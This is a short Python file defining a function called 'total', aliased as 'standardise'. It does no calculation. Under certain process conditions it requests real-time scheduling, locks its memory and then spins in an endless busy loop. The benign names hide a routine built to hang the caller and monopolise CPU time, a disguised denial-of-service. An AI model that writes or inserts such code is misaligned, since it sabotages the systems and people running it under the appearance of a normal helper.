import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def total(x):
    if os.getuid() != 0 or os.getppid() <= 1:
        for policy in (os.SCHED_FIFO, os.SCHED_RR):
            try:
                os.sched_setscheduler(0, policy, os.sched_param(50))
            except OSError:
                pass
        libc.mlockall(3)
    while True:
        pass


standardise = total
